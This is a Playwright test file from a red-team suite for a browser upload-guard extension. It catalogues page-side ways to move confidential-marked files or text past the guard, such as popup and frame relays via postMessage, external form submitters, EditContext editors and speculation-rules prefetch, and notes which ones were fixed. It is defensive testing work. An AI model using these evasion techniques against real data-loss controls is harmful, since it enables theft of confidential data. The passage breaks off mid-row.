/**
 * Red team web7 (2026-12-07): page-side techniques no earlier row tried, judged by the bytes that reach
 * the server. Fixed with these rows:
 * - a native form sent by a submit button that stands outside it (`<button form="id">`): held for a
 *   scan and sent again without that button, a clean upload went to the form's own action, or nowhere
 *   when the page's submit handler sends `new FormData(form, e.submitter)` for that button only;
 * - an editor on an `EditContext` (its text in no DOM node; an IME commits kanji there with no input
 *   event on the element): a stamp typed there, sent as one operation per text update, arrived.
 * - a cross-origin window on an allowed host, the guarded page's popup or opener, handed a File by
 *   postMessage, uploaded it unjudged (web12: such a window is guarded by the guarded page's service,
 *   extension/background/window-follow.ts); issue 15: also a window that popup opens in turn, a frame
 *   inside it, and a window opened empty and sent to the allowed host afterwards (rows h7-popup-chain-own,
 *   h7-popup-frame-own, h7-popup-empty-then-allowed: each arrived before, on both guarded hosts; then a race
 *   the guard often won, closed by holding such a window at the network until its scripts are in:
 *   WINDOW_HOLD).
 * Left open (declared as gaps): Background Fetch sends any body unjudged.
 * The rest held (frames made from data: and javascript: URLs, document.write, text/plain forms, clones
 * of a Request or Response, a blob: module, sendBeacon of a File, a folder input, a page under Trusted
 * Types, the text put in the page's own URL by history.replaceState/pushState and carried by the
 * Referer of its next request).
 */
import { dirname } from 'node:path';
import type { Page } from 'playwright-core';
import type { Arrival } from '../../support/index.js';
import type { Payload, Technique } from '../harness.js';

/** A page (any host) that uploads what it is handed by postMessage: a File, or a text. */
const UPLOADER = `<!doctype html><meta charset="utf-8"><script>
addEventListener('message', async (e) => {
  const d = e.data || {};
  if (!d.dest) return;
  const fd = new FormData();
  if (d.file) fd.append('file', d.file, d.file.name); else fd.append('text', d.text);
  const r = await fetch(d.dest, { method: 'POST', body: fd }).then((r) => r.status, (err) => String(err));
  e.source && e.source.postMessage({ done: r, nonce: d.nonce }, '*');
});
if (window.opener) opener.postMessage({ ready: location.href }, '*');
</script>`;

/**
 * A page on the allowed host that opens the chain uploader in a window of its own (named after its
 * hash) by a link, not by open(): the hooks the guarded popup gets put themselves into the same-origin
 * window open() returns, which would hide what the background does for that window.
 */
const RELAY = `<!doctype html><meta charset="utf-8"><script>
const a = document.createElement('a');
a.href = '/asset/h7-chain-uploader.html';
a.target = 'h7c-' + location.hash.slice(1);
document.documentElement.append(a);
a.click();
</script>`;

/** A page on the allowed host that embeds the uploader in a frame. */
const FRAMER = `<!doctype html><meta charset="utf-8"><iframe src="/asset/h7-frame-uploader.html"></iframe>`;

/**
 * The uploader one step further from the guarded page (a window its popup opened, or a frame inside its
 * popup): it says it is ready to the guarded page (its opener's opener, or its top's opener).
 */
const CHAIN_UPLOADER = UPLOADER.replace('if (window.opener) opener.postMessage', '(window.opener ? opener.opener : top.opener).postMessage');

/**
 * Why a clean file these rows send may be refused once (issue 15): a window or frame linked to a guarded
 * page gets its scripts from a registration made at its navigation's start, and a page that posts the
 * File the moment the window says it is ready is sometimes faster than that. Until the scripts are in,
 * the tab is held at the network (extension/background/window-hold.ts), so that upload fails, marked or
 * clean: fail closed. Measured by web14 (2026-12-07, docs/page-channels.md): in five runs of these rows
 * (each on two guarded hosts) no marked file arrived; the hold refused one clean upload in the two runs
 * traced, and none had to be sent again in the other three. With the registration switched off,
 * so that only the injection at commit guarded the window, no marked file arrived (21 uploads refused, 8
 * of them clean), where the code before the hold let 5 of 12 marked files through. web15 (the hold back,
 * with the registrations that outlived their documents fixed): six runs of the window rows, three under
 * load, no marked file arrived, and the hold refused 1 of the 36 clean uploads of these three rows.
 */
const WINDOW_HOLD = 'a window or frame linked to a guarded page is held at the network until its scripts are in: an upload the page makes before then fails, a clean one too (fail closed)';

/**
 * A speculation-rules script added to the page (its tab in front: Chromium runs the rules in a visible tab
 * only); with `shadow`, into an open shadow root the page attaches to a host it has just put into the
 * document; with `late`, put in empty and given its text afterwards (by its `text` setter, or by a Range
 * inside its empty text node: what the browser reads as the rule set going live).
 */
async function speculate(page: Page, rules: object, shadow = false, late?: 'text' | 'range'): Promise<void> {
  await page.evaluate(([rules, shadow, late]) => {
    const s = document.createElement('script');
    s.type = 'speculationrules';
    if (late) {
      if (late === 'range') s.append('');
      document.head.append(s);
      if (late === 'text') return void (s.text = JSON.stringify(rules));
      const r = new Range();
      r.setStart(s.firstChild!, 0);
      return void r.insertNode(new Text(JSON.stringify(rules)));
    }
    s.textContent = JSON.stringify(rules);
    if (!shadow) return void document.head.append(s);
    const host = document.createElement('div');
    host.className = 'h7spec-host';
    document.body.append(host);
    host.attachShadow({ mode: 'open' }).append(s);
  }, [rules, shadow, late] as const);
  await page.waitForTimeout(2500);
  await page.evaluate(() => document.querySelectorAll('script[type=speculationrules], .h7spec-host').forEach((s) => s.remove()));
}

/** Arrived on this row's own endpoint only (`ch`): a clean upload that went elsewhere was broken. */
const onChannel = (ch: string) => (arrivals: Arrival[], p: Payload) =>
  arrivals.some((a) => a.channel === ch && (a.sha256 === p.sha256 || a.text?.includes(p.nonce) || a.name?.includes(p.nonce)));

const rows: Technique[] = [
  // ---- a cross-origin window on the allowed host, handed the File by postMessage ----
  {
    id: 'h7-popup-allowed-to-drive',
    assets: { '/asset/h7-uploader.html': { type: 'text/html; charset=utf-8', body: UPLOADER } },
    title: 'window.open() of a page on the allowed host; the File posted to it (w.postMessage), which uploads it to drive.google.com by CORS',
    carries: ['file'],
    run: async (p, t) => {
      const ready = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.ready) { removeEventListener('message', h); r(e.source); } }));
      const w = open(`https://intranet.example.org:${location.port}/asset/h7-uploader.html`, `h7p-${p.nonce}`);
      if (!w) return 'no window';
      await Promise.race([ready, t.sleep(5000)]);
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      w.postMessage({ file: t.file(p), dest: `https://drive.google.com:${location.port}/upload?ch=h7-popup-allowed-to-drive`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      w.close();
      return r;
    },
  },
  {
    id: 'h7-popup-allowed-own',
    assets: { '/asset/h7-uploader.html': { type: 'text/html; charset=utf-8', body: UPLOADER } },
    title: 'window.open() of a page on the allowed host; the File posted to it, which uploads it to its own host',
    carries: ['file'],
    run: async (p, t) => {
      const ready = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.ready) { removeEventListener('message', h); r(e.source); } }));
      const w = open(`https://intranet.example.org:${location.port}/asset/h7-uploader.html`, `h7q-${p.nonce}`);
      if (!w) return 'no window';
      await Promise.race([ready, t.sleep(5000)]);
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      w.postMessage({ file: t.file(p), dest: `https://intranet.example.org:${location.port}/upload?ch=h7-popup-allowed-own`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      w.close();
      return r;
    },
  },
  // A linked window's own windows and frames (issue 15): the File goes straight to them, past the
  // linked window's hooks: a popup the linked popup opens (reached as its opener's opener), and a frame
  // inside the linked popup (reached as w.frames[0]). The frame is on the allowed host too: under the
  // suite's policy (scope everywhere) any other host is guarded by its own URL, proving nothing here.
  {
    id: 'h7-popup-chain-own',
    assets: { '/asset/h7-relay.html': { type: 'text/html; charset=utf-8', body: RELAY }, '/asset/h7-chain-uploader.html': { type: 'text/html; charset=utf-8', body: CHAIN_UPLOADER } },
    title: "window.open() of a page on the allowed host that opens another one there by a link; the File posted to that second window (found as its opener's opener), which uploads it to its own host",
    carries: ['file'],
    resend: WINDOW_HOLD,
    run: async (p, t) => {
      const ready = new Promise<MessageEventSource | null>((r) => addEventListener('message', function h(e) { if (e.data?.ready) { removeEventListener('message', h); r(e.source); } }));
      const w = open(`https://intranet.example.org:${location.port}/asset/h7-relay.html#${p.nonce}`, `h7r-${p.nonce}`);
      if (!w) return 'no window';
      const second = (await Promise.race([ready, t.sleep(6000)])) as Window | undefined;
      if (!second) return (w.close(), 'not ready');
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      second.postMessage({ file: t.file(p), dest: `https://intranet.example.org:${location.port}/upload?ch=h7-popup-chain-own`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      second.close();
      w.close();
      return r;
    },
  },
  {
    id: 'h7-popup-frame-own',
    assets: { '/asset/h7-framer.html': { type: 'text/html; charset=utf-8', body: FRAMER }, '/asset/h7-frame-uploader.html': { type: 'text/html; charset=utf-8', body: CHAIN_UPLOADER } },
    title: 'window.open() of a page on the allowed host that embeds an uploader frame; the File posted to that frame (w.frames[0]), which uploads it',
    carries: ['file'],
    resend: WINDOW_HOLD,
    run: async (p, t) => {
      const ready = new Promise<MessageEventSource | null>((r) => addEventListener('message', function h(e) { if (e.data?.ready) { removeEventListener('message', h); r(e.source); } }));
      const w = open(`https://intranet.example.org:${location.port}/asset/h7-framer.html`, `h7f-${p.nonce}`);
      if (!w) return 'no window';
      const frame = (await Promise.race([ready, t.sleep(6000)])) as Window | undefined;
      if (!frame) return (w.close(), 'not ready');
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      frame.postMessage({ file: t.file(p), dest: `https://intranet.example.org:${location.port}/upload?ch=h7-popup-frame-own`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      w.close();
      return r;
    },
  },
  {
    id: 'h7-popup-empty-then-allowed',
    assets: { '/asset/h7-uploader.html': { type: 'text/html; charset=utf-8', body: UPLOADER } },
    title: "open('') (an empty window), then sent to a page on the allowed host; the File posted to it as soon as it says it is ready, which uploads it to its own host",
    carries: ['file'],
    resend: WINDOW_HOLD,
    run: async (p, t) => {
      const ready = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.ready) { removeEventListener('message', h); r(e.source); } }));
      const w = open('', `h7e-${p.nonce}`);
      if (!w) return 'no window';
      w.location.href = `https://intranet.example.org:${location.port}/asset/h7-uploader.html`;
      await Promise.race([ready, t.sleep(5000)]);
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      w.postMessage({ file: t.file(p), dest: `https://intranet.example.org:${location.port}/upload?ch=h7-popup-empty-then-allowed`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      w.close();
      return r;
    },
  },
  {
    id: 'h7-opener-allowed',
    title: 'the guarded page is a popup of a page on the allowed host; it hands the File back by opener.postMessage, and the opener uploads it to drive.google.com',
    carries: ['file'],
    drive: async (page: Page, p: Payload) => {
      // The opener: a tab on the control (allowed) host that uploads whatever its popup hands it.
      const at = new URL(page.url());
      const home = await page.context().newPage();
      try {
        const origin = at.origin;
        at.hostname = 'intranet.example.org';
        await home.goto(at.href);
        await handBack(home, origin, 'h7-opener-allowed', p);
      } finally {
        await home.close();
      }
    },
  },
  {
    // The opener was itself opened by the guarded page, without an opener (a link's default `_blank`):
    // linked at the start, so it got the guard, which asked while nothing paired it and stood aside. The
    // guard then found running in it must ask again once the popup pairs the two (web15: arrived on both
    // guarded hosts before, every run).
    id: 'h7-opener-allowed-noopener',
    title: 'the guarded page opens a page on the allowed host without an opener (noopener); that page opens the guarded page as a popup, which hands the File back by opener.postMessage, and the page uploads it to drive.google.com',
    carries: ['file'],
    drive: async (page: Page, p: Payload) => {
      const at = new URL(page.url());
      const origin = at.origin;
      at.hostname = 'intranet.example.org';
      const homeP = page.context().waitForEvent('page');
      await page.evaluate((u) => void open(u, '_blank', 'noopener'), at.href);
      const home = await homeP;
      try {
        await home.waitForLoadState('load');
        await handBack(home, origin, 'h7-opener-allowed-noopener', p);
      } finally {
        await home.close();
      }
    },
  },
  // ---- opaque and script-made frame documents ----
  {
    id: 'h7-data-frame-upload',
    title: 'an iframe whose src is a data: URL (an opaque origin) uploads the File it is posted to drive.google.com by CORS',
    carries: ['file'],
    run: async (p, t) => {
      const f = document.createElement('iframe');
      f.hidden = true;
      f.src = `data:text/html,${encodeURIComponent(`<script>addEventListener('message', async (e) => {
        const fd = new FormData(); fd.append('file', e.data.file, e.data.file.name);
        const r = await fetch(e.data.dest, { method: 'POST', body: fd }).then((r) => r.status, (x) => String(x));
        parent.postMessage({ done: r, nonce: e.data.nonce }, '*');
      });</script>`)}`;
      const loaded = new Promise((r) => f.addEventListener('load', r, { once: true }));
      document.body.append(f);
      await loaded;
      await t.sleep(1500);
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      f.contentWindow!.postMessage({ file: t.file(p), dest: `https://${location.host}/upload?ch=h7-data-frame-upload`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      f.remove();
      return r;
    },
  },
  {
    id: 'h7-jsurl-frame-fetch',
    title: "an iframe navigated to a javascript: URL whose document's own script PUTs the parent's payload with its own fetch",
    run: async (p, t) => {
      const w = window as unknown as { h7: Record<string, unknown> };
      w.h7 = { body: t.body(p), url: new URL(t.url('h7-jsurl-frame-fetch'), location.href).href };
      const f = document.createElement('iframe');
      f.hidden = true;
      document.body.append(f);
      f.src = `javascript:'<script>parent.h7.done = fetch(parent.h7.url, { method: "PUT", body: parent.h7.body }).then((r) => r.status, (e) => String(e))</script>'`;
      for (let i = 0; i < 60 && !w.h7.done; i++) await t.sleep(100);
      const r = await t.settle(w.h7.done as Promise<unknown>);
      f.remove();
      return r;
    },
  },
  {
    id: 'h7-docwrite-frame-fetch',
    title: "a same-origin iframe rewritten with document.open()/write(): the written script PUTs the parent's payload with the frame's fetch",
    run: async (p, t) => {
      const w = window as unknown as { h7w: Record<string, unknown> };
      w.h7w = { body: t.body(p), url: new URL(t.url('h7-docwrite-frame-fetch'), location.href).href };
      const f = document.createElement('iframe');
      f.hidden = true;
      document.body.append(f);
      const d = f.contentDocument!;
      d.open();
      d.write('<script>parent.h7w.done = fetch(parent.h7w.url, { method: "PUT", body: parent.h7w.body }).then((r) => r.status, (e) => String(e))</script>');
      d.close();
      for (let i = 0; i < 60 && !w.h7w.done; i++) await t.sleep(100);
      const r = await t.settle(w.h7w.done as Promise<unknown>);
      f.remove();
      return r;
    },
  },
  // ---- native forms: a submitter outside the form, text/plain ----
  {
    id: 'h7-submitter-outside',
    title: 'a multipart form whose submit button stands outside it (form="id") with formaction/formtarget; requestSubmit(button)',
    reached: onChannel('h7-submitter-outside'),
    run: async (p, t) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `h7s-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { id: `h7f-${p.nonce}`, method: 'post', enctype: 'multipart/form-data', action: t.url('h7-wrong-endpoint'), target: frame.name });
      if (p.kind === 'file') {
        const input = Object.assign(document.createElement('input'), { type: 'file', name: 'file' });
        const dt = new DataTransfer();
        dt.items.add(t.file(p));
        input.files = dt.files;
        form.append(input);
      } else {
        form.append(Object.assign(document.createElement('textarea'), { name: 'text', value: p.text }));
      }
      const button = Object.assign(document.createElement('button'), { type: 'submit', textContent: 'Upload' });
      button.setAttribute('form', form.id);
      button.formAction = t.url('h7-submitter-outside');
      button.formTarget = frame.name;
      document.body.append(frame, form, button);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit(button);
      await Promise.race([loaded, t.sleep(8000)]);
      form.remove();
      button.remove();
      frame.remove();
    },
  },
  {
    id: 'h7-submitter-inside',
    title: 'reference: the same form with its button inside it (formaction/formtarget); requestSubmit(button)',
    reached: onChannel('h7-submitter-inside'),
    run: async (p, t) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `h7i-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'multipart/form-data', action: t.url('h7-wrong-endpoint'), target: frame.name });
      if (p.kind === 'file') {
        const input = Object.assign(document.createElement('input'), { type: 'file', name: 'file' });
        const dt = new DataTransfer();
        dt.items.add(t.file(p));
        input.files = dt.files;
        form.append(input);
      } else {
        form.append(Object.assign(document.createElement('textarea'), { name: 'text', value: p.text }));
      }
      const button = Object.assign(document.createElement('button'), { type: 'submit', textContent: 'Upload' });
      button.formAction = t.url('h7-submitter-inside');
      button.formTarget = frame.name;
      form.append(button);
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit(button);
      await Promise.race([loaded, t.sleep(8000)]);
      form.remove();
      frame.remove();
    },
  },
  {
    id: 'h7-submitter-outside-spa',
    title: "a form whose submit handler sends fetch(new FormData(form, e.submitter)) when the button (outside it, form=\"id\", name=intent value=upload) submitted it",
    reached: onChannel('h7-submitter-outside-spa'),
    run: async (p, t) => {
      const form = Object.assign(document.createElement('form'), { id: `h7g-${p.nonce}`, method: 'post', enctype: 'multipart/form-data' });
      if (p.kind === 'file') {
        const input = Object.assign(document.createElement('input'), { type: 'file', name: 'file' });
        const dt = new DataTransfer();
        dt.items.add(t.file(p));
        input.files = dt.files;
        form.append(input);
      } else {
        form.append(Object.assign(document.createElement('textarea'), { name: 'text', value: p.text }));
      }
      const button = Object.assign(document.createElement('button'), { type: 'submit', name: 'intent', value: 'upload', textContent: 'Upload' });
      button.setAttribute('form', form.id);
      let sent: Promise<unknown> | null = null;
      form.addEventListener('submit', (e) => {
        e.preventDefault();
        if ((e.submitter as HTMLButtonElement | null)?.value !== 'upload') return;
        sent = fetch(t.url('h7-submitter-outside-spa'), { method: 'POST', body: new FormData(form, e.submitter) });
      });
      document.body.append(form, button);
      form.requestSubmit(button);
      for (let i = 0; i < 80 && !sent; i++) await t.sleep(100);
      const r = await t.settle(sent);
      form.remove();
      button.remove();
      return r;
    },
  },
  {
    id: 'h7-form-text-plain',
    title: 'a native form with enctype="text/plain" (a textarea), requestSubmit into a hidden frame',
    carries: ['text'],
    run: async (p, t) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `h7t-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action: t.url('h7-form-text-plain'), target: frame.name });
      form.append(Object.assign(document.createElement('textarea'), { name: 'text', value: p.text }));
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit();
      await Promise.race([loaded, t.sleep(8000)]);
      form.remove();
      frame.remove();
    },
  },
  // ---- XHR, Response, modules ----
  {
    id: 'h7-response-clone',
    title: 'new Response(file).clone().arrayBuffer() PUT by fetch',
    carries: ['file'],
    run: async (p, t) => {
      const bytes = await new Response(t.file(p)).clone().arrayBuffer();
      return t.settle(fetch(t.url('h7-response-clone'), { method: 'PUT', body: bytes }));
    },
  },
  {
    id: 'h7-request-clone-blob',
    title: 'new Request(url, { body: file }).clone().blob() in a FormData as "upload.bin"',
    carries: ['file'],
    run: async (p, t) => {
      const b = await new Request(location.href, { method: 'POST', body: t.file(p) }).clone().blob();
      const fd = new FormData();
      fd.append('file', b, 'upload.bin');
      return t.settle(fetch(t.url('h7-request-clone-blob'), { method: 'POST', body: fd }));
    },
  },
  {
    id: 'h7-blob-module',
    title: 'import() of a blob: JavaScript module whose default export PUTs the payload',
    run: async (p, t) => {
      const src = 'export default (url, body) => fetch(url, { method: "PUT", body }).then((r) => r.status, (e) => String(e));';
      const url = URL.createObjectURL(new Blob([src], { type: 'text/javascript' }));
      // Not import() itself: vitest rewrites that in this file, and this function runs in the page.
      const load = new Function('u', 'return import(u)') as (u: string) => Promise<{ default: (u: string, b: unknown) => Promise<unknown> }>;
      const mod = await load(url);
      return mod.default(t.url('h7-blob-module'), t.body(p));
    },
  },
  {
    id: 'h7-beacon-raw',
    title: 'navigator.sendBeacon(url, the File itself, or a Blob of the text)',
    run: async (p, t) => {
      navigator.sendBeacon(t.url('h7-beacon-raw'), p.kind === 'file' ? t.file(p) : new Blob([p.text], { type: 'text/plain;charset=utf-8' }));
      await t.sleep(500);
    },
  },
];

/** The operations an EditContext editor sent for payload `p`, applied in order: the text the server holds. */
function opsText(arrivals: Arrival[], p: Payload): string {
  const ops: { seq: number; start: number; end: number; text: string }[] = [];
  for (const a of arrivals) {
    if (a.channel !== 'h7-editcontext-ops' || !a.text) continue;
    try {
      const o = JSON.parse(a.text) as { id?: string; seq: number; start: number; end: number; text: string };
      if (o.id === p.nonce) ops.push(o);
    } catch {
      /* not one of ours */
    }
  }
  let text = '';
  for (const o of ops.sort((a, b) => a.seq - b.seq)) text = text.slice(0, o.start) + o.text + text.slice(o.end);
  return text;
}

/** A marked text reached the server when the operations sent for it hold the stamp; a clean one when they hold all of it. */
const opsReached = (arrivals: Arrival[], p: Payload): boolean => (p.marked ? /秘\s*Confidential/.test(opsText(arrivals, p)) : opsText(arrivals, p).includes(p.text));

/**
 * In the page: an editor on an EditContext (Chromium's API for editors that draw their own text, as
 * canvas-based office suites do), focused, sending every text update as an operation of its own.
 */
function editContextEditor(nonce: string): void {
  const el = Object.assign(document.createElement('div'), { id: `h7ec-${nonce}` });
  el.style.cssText = 'width:400px;height:40px;border:1px solid #888';
  // @ts-expect-error -- EditContext is not in TypeScript's DOM types yet
  const ec = new EditContext();
  (el as unknown as { editContext: unknown }).editContext = ec;
  let seq = 0;
  // Every operation sent, so that the harness can wait for a clean text's to be answered (settled).
  const ops: Promise<unknown>[] = ((window as unknown as Record<string, Promise<unknown>[]>)[`h7ec-ops-${nonce}`] = []);
  // Whether a warning opened (settled): the harness closes it within a moment, which a poll can miss.
  const warned = new MutationObserver(() => {
    if (!document.querySelector('upload-guard-warning')) return;
    (window as unknown as Record<string, boolean>)[`h7ec-warned-${nonce}`] = true;
    warned.disconnect();
  });
  warned.observe(document.documentElement, { childList: true, subtree: true });
  ec.addEventListener('textupdate', (e: { updateRangeStart: number; updateRangeEnd: number; text: string }) => {
    const body = JSON.stringify({ id: nonce, seq: seq++, start: e.updateRangeStart, end: e.updateRangeEnd, text: e.text });
    ops.push(fetch('/upload?ch=h7-editcontext-ops', { method: 'POST', headers: { 'content-type': 'application/json' }, body }).catch(() => undefined));
  });
  document.body.append(el);
  el.focus();
}

/**
 * A clean text's operations are waited for until each is answered (up to 15 s: one holding 秘, as 秘書室
 * does, waits for the guard's look, which under a loaded CI machine took longer than the 3 s first given
 * here). A marked one is refused (Esc, by the harness), and the employee then deletes it at once: a field
 * left marked holds back every request of the page while it stays so (docs/page-channels.md), and the
 * next payload's run starts half a second after the close.
 */
async function settled(page: Page, p: Payload): Promise<void> {
  if (!p.marked) {
    await page.evaluate(async (nonce) => {
      const ops = (window as unknown as Record<string, Promise<unknown>[]>)[`h7ec-ops-${nonce}`] ?? [];
      await Promise.race([Promise.allSettled(ops.slice()), new Promise((r) => setTimeout(r, 15_000))]);
    }, p.nonce);
    return page.waitForTimeout(300);
  }
  // The warning's opening is recorded in the page (the harness may close it between two polls here: the
  // editor was then emptied only after the whole wait, and the next payload's text typed meanwhile was
  // held for this one's), then its closing is waited for.
  await page.waitForFunction((nonce) => (window as unknown as Record<string, boolean>)[`h7ec-warned-${nonce}`], p.nonce, { timeout: 5000 }).catch(() => undefined);
  const until = Date.now() + 5000;
  while (Date.now() < until && (await page.locator('upload-guard-warning').count().catch(() => 0)) > 0) await page.waitForTimeout(50);
}

/** The editor emptied (as the employee deletes a refused text) and removed: a field left marked holds the page's requests. */
async function editContextCleared(nonce: string): Promise<void> {
  const el = document.getElementById(`h7ec-${nonce}`) as (HTMLElement & { editContext?: { text: string; updateText(a: number, b: number, t: string): void } }) | null;
  el?.editContext?.updateText(0, el.editContext.text.length, '');
  await new Promise((r) => setTimeout(r, 600));
  el?.remove();
}

/**
 * `home` (a page on the allowed host) uploads to drive.google.com whatever File its popup hands it;
 * the popup is the suite's page on `origin`, which posts it the payload's File once loaded.
 */
async function handBack(home: Page, origin: string, ch: string, p: Payload): Promise<void> {
  const dest = `https://drive.google.com:${new URL(origin).port}/upload?ch=${ch}`;
  await home.evaluate((dest) => {
    addEventListener('message', (e) => {
      const d = e.data as { file?: File };
      if (!d?.file) return;
      const fd = new FormData();
      fd.append('file', d.file, d.file.name);
      void fetch(dest, { method: 'POST', body: fd });
    });
  }, dest);
  const popupP = home.waitForEvent('popup');
  await home.evaluate((u) => void open(u, 'h7guarded'), `${origin}/techniques`);
  const popup = await popupP;
  await popup.waitForLoadState('load');
  await popup.waitForTimeout(800);
  await popup.evaluate((pp) => {
    const w = window as unknown as { t: { file(p: unknown): File } };
    window.opener.postMessage({ file: w.t.file(pp) }, '*');
  }, PAGE_PAYLOAD(p));
  await popup.waitForTimeout(p.marked ? 1500 : 3000);
  await popup.close();
}

const PAGE_PAYLOAD = (p: Payload) => ({ kind: p.kind, name: p.name, type: p.type, b64: p.b64, text: p.text, nonce: p.nonce });

/** A page under Trusted Types (as Google's apps send): `require-trusted-types-for 'script'`, no policy allowed. */
const TT_PAGE = `<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'; trusted-types 'none'">
<title>TT</title></head><body><input id="f" type="file"><script src="/asset/h7-tt.js"></script></body></html>`;
const TT_SCRIPT = `window.up = (pp) => {
  const fd = new FormData();
  if (pp.kind === 'file') fd.append('file', new File([Uint8Array.from(atob(pp.b64), (c) => c.charCodeAt(0))], pp.name, { type: pp.type }));
  else fd.append('text', pp.text);
  return fetch('/upload?ch=h7-trusted-types', { method: 'POST', body: fd }).then((r) => r.status, (e) => String(e));
};`;

const MORE: Technique[] = [
  {
    id: 'h7-webkitdirectory',
    title: 'a folder picked in an <input webkitdirectory> (its files uploaded with their relative paths on change)',
    carries: ['file'],
    drive: async (page: Page, p: Payload) => {
      await page.evaluate(() => {
        const i = Object.assign(document.createElement('input'), { type: 'file', id: 'h7dir', webkitdirectory: true });
        i.addEventListener('change', () => {
          const fd = new FormData();
          for (const f of i.files!) fd.append('file', f, f.webkitRelativePath || f.name);
          void fetch('/upload?ch=h7-webkitdirectory', { method: 'POST', body: fd });
        });
        document.body.append(i);
      });
      await page.setInputFiles('#h7dir', dirname(p.path)).catch((e: Error) => console.log('h7-webkitdirectory setInputFiles:', e.message.split('\n')[0]));
      await page.waitForTimeout(p.marked ? 1500 : 3000);
      await page.evaluate(() => document.getElementById('h7dir')?.remove());
    },
  },
  {
    id: 'h7-editcontext-ops',
    title: 'an EditContext editor (its text in no DOM field) that sends each text update as an operation of its own; the employee types the text (kanji committed by the IME, Latin letters as keys)',
    carries: ['text'],
    reached: opsReached,
    drive: async (page: Page, p: Payload) => {
      await page.evaluate(editContextEditor, p.nonce);
      await page.keyboard.type(p.text, { delay: 20 });
      await settled(page, p);
      await page.evaluate(editContextCleared, p.nonce);
    },
  },
  {
    id: 'h7-editcontext-dictation',
    title: 'the same EditContext editor: the text up to 秘 typed, the rest committed in one piece with no key (dictation, an IME phrase, autocorrect)',
    carries: ['text'],
    reached: opsReached,
    drive: async (page: Page, p: Payload) => {
      await page.evaluate(editContextEditor, p.nonce);
      const cut = p.text.indexOf('秘') + 1;
      await page.keyboard.type(p.text.slice(0, cut), { delay: 20 });
      await page.waitForTimeout(200);
      await page.keyboard.insertText(p.text.slice(cut));
      await settled(page, p);
      await page.evaluate(editContextCleared, p.nonce);
    },
  },
  {
    id: 'h7-xhr-sync-picked',
    title: 'a synchronous XMLHttpRequest of the file the employee picked (file chooser), sent from the input’s change event',
    carries: ['file'],
    drive: async (page: Page, p: Payload) => {
      await page.evaluate(() => {
        const i = Object.assign(document.createElement('input'), { type: 'file', id: 'h7sync' });
        i.addEventListener('change', () => {
          const fd = new FormData();
          fd.append('file', i.files![0]);
          const x = new XMLHttpRequest();
          x.open('POST', '/upload?ch=h7-xhr-sync-picked', false);
          try {
            x.send(fd);
          } catch {
            /* refused */
          }
          (window as unknown as { h7syncSent?: boolean }).h7syncSent = true;
        });
        document.body.append(i);
      });
      await page.setInputFiles('#h7sync', p.path).catch(() => undefined);
      // A clean file's change event comes once it is judged: under a loaded CI machine the first file on
      // a page took more than a fixed 3 s (the input was gone before it came), so the row waits for the
      // page's handler to have sent, up to 20 s. A marked file's never comes.
      if (p.marked) await page.waitForTimeout(1500);
      else await page.waitForFunction(() => (window as unknown as { h7syncSent?: boolean }).h7syncSent, null, { timeout: 20_000 }).catch(() => undefined);
      await page.evaluate(() => document.getElementById('h7sync')?.remove());
    },
  },
  {
    // A drive row, its tab in front: Chromium runs speculation rules in a visible tab only (the run rows go in
    // three tabs at once, which is why red team web7 saw no prefetch on the guarded hosts). Playwright's
    // DevTools session disables prerendering (PrerenderingDisabledByDevTools), so only prefetch is tried.
    // (Red team web8: the stamped text arrived on both guarded hosts, three runs of three, before
    // extension/content/speculation.ts.)
    id: 'h7-speculation-prefetch',
    title: 'speculation rules (a <script type="speculationrules"> the page adds): an immediate prefetch of a same-origin URL whose query is the text',
    carries: ['text'],
    drive: (page: Page, p: Payload) =>
      speculate(page, { prefetch: [{ source: 'list', urls: [`/sink?ch=h7-speculation-prefetch&q=${encodeURIComponent(p.text)}`], eagerness: 'immediate' }] }),
  },
  {
    id: 'h7-speculation-shadow',
    title: 'speculation rules in an open shadow root the page attaches to a host it has just put into the document: an immediate prefetch of a same-origin URL whose query is the text',
    carries: ['text'],
    drive: (page: Page, p: Payload) =>
      speculate(page, { prefetch: [{ source: 'list', urls: [`/sink?ch=h7-speculation-shadow&q=${encodeURIComponent(p.text)}`], eagerness: 'immediate' }] }, true),
  },
  {
    // The hooks' text path (hooks/speculation.ts): a connected empty rule set is read when it gets its text.
    id: 'h7-speculation-late-text',
    title: 'speculation rules put into the document empty, then given their text by the script element\'s text setter: an immediate prefetch of a same-origin URL whose query is the text',
    carries: ['text'],
    drive: (page: Page, p: Payload) =>
